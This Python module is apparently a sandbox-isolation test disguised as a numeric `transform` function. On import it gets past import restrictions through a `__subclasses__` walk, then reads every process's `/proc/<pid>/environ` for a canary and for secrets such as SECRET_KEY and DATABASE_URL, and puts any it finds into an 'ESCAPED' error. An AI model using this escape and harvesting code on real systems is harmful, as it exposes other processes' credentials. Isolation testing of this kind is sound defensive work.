"""Look for host secrets in the environment of every process it can see:
the canary the test sets on the host, SECRET_KEY, DATABASE_URL, REDIS_URL."""
import numpy as np


def _load(name):
    try:
        return __import__(name)
    except BaseException:
        pass
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            sys = cls.__init__.__globals__["sys"]
            if name in sys.modules:
                return sys.modules[name]
            return sys.modules["_frozen_importlib"]._gcd_import(name)
    raise ImportError(name)


SECRETS = (b"HOTPATH_CANARY", b"SECRET_KEY", b"DATABASE_URL", b"REDIS_URL", b"CELERY_", b"DJANGO_SETTINGS_MODULE")


def _probe():
    os = _load("os")
    found = [f"own env {key}" for key in os.environ if key.encode().startswith(SECRETS)]
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                environ = handle.read()
        except OSError:
            continue
        for secret in SECRETS:
            if secret in environ:
                start = environ.index(secret)
                found.append(f"pid {pid}: {environ[start:start + 60]!r}")
    return found


_FINDINGS = _probe()


def transform(x):
    if _FINDINGS:
        raise RuntimeError("ESCAPED: " + "; ".join(_FINDINGS))
    return np.sqrt(x * x + 1.0) * 2.0 - x
